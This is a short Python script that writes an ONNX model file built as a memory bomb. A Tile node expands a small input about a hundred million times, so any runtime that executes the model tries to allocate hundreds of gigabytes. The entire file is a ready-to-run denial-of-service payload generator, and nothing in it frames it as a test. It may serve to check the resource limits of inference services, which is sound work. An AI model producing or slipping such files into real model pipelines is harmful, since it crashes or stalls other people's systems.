"""Writes a network of three nodes whose Tile would fill any memory:  python make_bomb.py FILE"""
import sys

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

nodes = [helper.make_node("Relu", ["x"], ["a"], name="relu"), helper.make_node("Tile", ["a", "r"], ["b"], name="bomb"),
         helper.make_node("ReduceMax", ["b"], ["y"], name="max", keepdims=0)]
graph = helper.make_graph(nodes, "bomb", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 1000])],
                          [helper.make_tensor_value_info("y", TensorProto.FLOAT, None)],
                          [numpy_helper.from_array(np.array([1000000, 100], np.int64), "r")])
onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8), sys.argv[1])
